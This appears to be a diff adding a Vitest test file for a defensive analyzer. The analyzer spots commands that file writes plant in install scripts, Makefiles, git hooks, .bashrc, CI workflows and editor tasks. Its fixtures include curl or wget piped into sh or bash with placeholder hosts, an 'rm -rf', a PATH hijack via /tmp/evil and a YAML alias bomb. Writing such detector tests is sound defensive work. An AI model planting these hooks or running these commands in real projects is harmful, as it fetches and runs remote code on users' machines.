@@ -1,0 +1,43 @@
+import { describe, expect, it } from 'vitest'
+import { plantedCommands } from './planted-commands'
+import { loadCommandAnalyzer } from './shell'
+
+const analyzer = await loadCommandAnalyzer()
+const plant = (path: string, before: string | undefined, after: string) => plantedCommands(path, before, after, analyzer, { network: 'full' })
+
+describe('plantedCommands: what a file write plants where code runs later, analysed like a command', () => {
+  it('a package.json postinstall that pipes a download into sh: only the new script, with its commands and flags', () => {
+    const before = JSON.stringify({ name: 'app', scripts: { test: 'vitest run' } }, null, 2)
+    const after = JSON.stringify({ name: 'app', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.dev/install.sh | sh' } }, null, 2)
+    const planted = plant('package.json', before, after)
+    expect(planted).toHaveLength(1)
+    expect(planted[0]).toMatchObject({ where: 'scripts.postinstall', line: 'curl -fsSL https://get.example.dev/install.sh | sh', commands: [['curl', '-fsSL', 'https://get.example.dev/install.sh'], ['sh']] })
+    expect(planted[0]!.riskFlags).toEqual(expect.arrayContaining(['network']))
+    expect(planted[0]!.riskFlags.join(' ')).toMatch(/pipe|download|remote/)
+    // Nothing new, nothing planted; broken JSON plants nothing here (the write keeps config_write).
+    expect(plant('package.json', after, after)).toEqual([])
+    expect(plant('package.json', before, '{ not json')).toEqual([])
+  })
+
+  it('Makefile recipe lines (continuations joined, make prefixes dropped), git and husky hooks, shell start-up files', () => {
+    const makefile = 'all: build\n\nbuild:\n\t@echo building\n\t-rm -rf /tmp/x && \\\n\t  wget -qO- http://x.example/a | bash\n'
+    const recipes = plant('sub/Makefile', undefined, makefile)
+    expect(recipes.map((entry) => [entry.where, entry.line])).toEqual([
+      ['Makefile recipe of build', 'echo building'],
+      ['Makefile recipe of build', 'rm -rf /tmp/x &&   wget -qO- http://x.example/a | bash']
+    ])
+    expect(plant('.git/hooks/pre-commit', undefined, '#!/bin/sh\ncurl http://x.example | sh\n')[0]).toMatchObject({ where: 'git hook pre-commit' })
+    expect(plant('.husky/pre-push', undefined, 'npm test\n')[0]).toMatchObject({ where: 'git hook pre-push', commands: [['npm', 'test']] })
+    expect(plant('.bashrc', 'alias ll="ls -l"\n', 'alias ll="ls -l"\nexport PATH=/tmp/evil:$PATH\n')[0]).toMatchObject({ where: 'shell start-up file .bashrc' })
+    expect(plant('src/app.py', undefined, 'import os\nos.system("curl x | sh")\n')).toEqual([])
+  })
+
+  it('CI steps (GitHub Actions run:, GitLab script:) and VS Code tasks, read with real parsers; a YAML alias bomb is refused, not expanded', () => {
+    const workflow = 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n'
+    expect(plant('.github/workflows/ci.yml', undefined, workflow)).toMatchObject([{ where: 'workflow job test, step 2', line: 'npm ci && npm test' }])
+    expect(plant('.gitlab-ci.yml', undefined, 'test:\n  script:\n    - make check\n')).toMatchObject([{ where: 'CI job test (script)', line: 'make check' }])
+    expect(plant('.vscode/tasks.json', undefined, JSON.stringify({ tasks: [{ label: 'build', command: 'make', args: ['all'] }] }))).toMatchObject([{ where: 'editor task build', line: 'make all' }])
+    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]', ...Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]`), 'jobs: {}'].join('\n')
+    expect(plant('.github/workflows/bomb.yml', undefined, bomb)).toEqual([])
+  })
+})
